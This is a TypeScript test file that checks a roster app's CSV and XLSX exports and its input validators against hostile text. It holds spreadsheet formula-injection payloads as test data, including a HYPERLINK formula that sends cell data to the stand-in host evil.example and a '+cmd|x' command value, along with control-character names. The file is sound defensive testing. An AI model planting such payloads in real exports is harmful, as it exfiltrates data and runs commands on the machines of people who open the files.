/**
 * Audit: a staff name with U+FFFF (or NUL, ESC, a lone surrogate) was accepted by updateStaff;
 * the roster XLSX export then held sheet XML that is not well-formed and the CSV carried NUL
 * and ESC raw. And `Ann;=HYPERLINK(…)` was exported as one quoted cell that a spreadsheet with
 * `;` as its list separator splits, running the formula.
 */
import { PassThrough } from 'node:stream';
import { csvCellText } from '../../../src/export/csv-writer';
import { writeXlsx } from '../../../src/export/xlsx-writer';
import { loadExcelJS } from '../../../src/common/load-exceljs';
import { unsafeTextProblem, xmlSafeText } from '../../../src/common/plain-text';
import { validateSync } from 'class-validator';
import { HolidayInput } from '../../../src/holidays/holiday-inputs.graphql';
import { CreateShiftTemplateInput } from '../../../src/staff/shift-template-inputs.graphql';
import { CreateChannelInput } from '../../../src/channels/channel-inputs.graphql';

const HOSTILE_NAMES = ['Ann\uFFFF', 'Bo\uFFFEb', 'Cy\u0000', 'Di\u001B[31m', 'Ed\uD800', 'Fi\uDFFFx'];

async function xlsxOf(names: string[]): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await writeXlsx(out, [
    {
      name: 'Staff',
      columns: [{ key: 'name', header: 'Name\u0007' }],
      rows: names.map((name) => ({ name })),
    },
  ]);
  return Buffer.concat(chunks);
}

describe('hostile text in exports and inputs', () => {
  it('writes a workbook that reads back whatever the stored names hold', async () => {
    const workbook = new (await loadExcelJS()).Workbook();
    await workbook.xlsx.load((await xlsxOf(HOSTILE_NAMES)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Staff')!;
    const names = HOSTILE_NAMES.map((_, i) => String(sheet.getRow(i + 2).getCell(1).value));
    expect(names).toEqual(['Ann\uFFFD', 'Bo\uFFFDb', 'Cy\uFFFD', 'Di\uFFFD[31m', 'Ed\uFFFD', 'Fi\uFFFDx']);
    expect(String(sheet.getRow(1).getCell(1).value)).toBe('Name\uFFFD');
  });

  it('writes no control character but tab, LF and CR into a CSV cell', () => {
    for (const name of HOSTILE_NAMES) expect(csvCellText(name)).toBe(xmlSafeText(name));
    expect(csvCellText('Cy\u0000\u001B')).toBe('Cy\uFFFD\uFFFD');
    expect(xmlSafeText('a\tb\nc\r\u{1F600}')).toBe('a\tb\nc\r\u{1F600}');
  });

  it('neutralises a formula after a ; or , inside a cell (semicolon-locale spreadsheets)', () => {
    expect(csvCellText('Ann;=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      `Ann;'=HYPERLINK("http://evil.example/?"&A1,"x")`,
    );
    expect(csvCellText('a,+cmd|x;@SUM(1);-2;\tx')).toBe("a,'+cmd|x;'@SUM(1);'-2;'\tx");
    expect(csvCellText('=1;=2')).toBe("'=1;'=2");
    expect(csvCellText('06:00-14:00 calls, break 10:00-10:30')).toBe('06:00-14:00 calls, break 10:00-10:30');
  });

  it('refuses control characters and non-characters in typed text, naming the field', () => {
    for (const name of [...HOSTILE_NAMES, 'x\u007F', 'y\uFDD0', 'z\u{10FFFF}'])
      expect(unsafeTextProblem('name', name)).toMatch(
        /^name must not contain control characters or non-characters, found U\+/,
      );
    expect(unsafeTextProblem('name', 'Zoë Ørsted-Łukasz \u{1F600}\ttab')).toBeNull();
  });

  it('refuses them in the names of holidays, shift templates and channels too', () => {
    const plainText = (cls: new () => object, name: string): string[] =>
      validateSync(Object.assign(new cls(), { name }))
        .filter((e) => e.property === 'name')
        .flatMap((e) => Object.keys(e.constraints ?? {}));
    for (const cls of [HolidayInput, CreateShiftTemplateInput, CreateChannelInput]) {
      expect(plainText(cls, 'Bank\uFFFF')).toContain('isPlainText');
      expect(plainText(cls, 'Bank holiday')).toEqual([]);
    }
  });
});
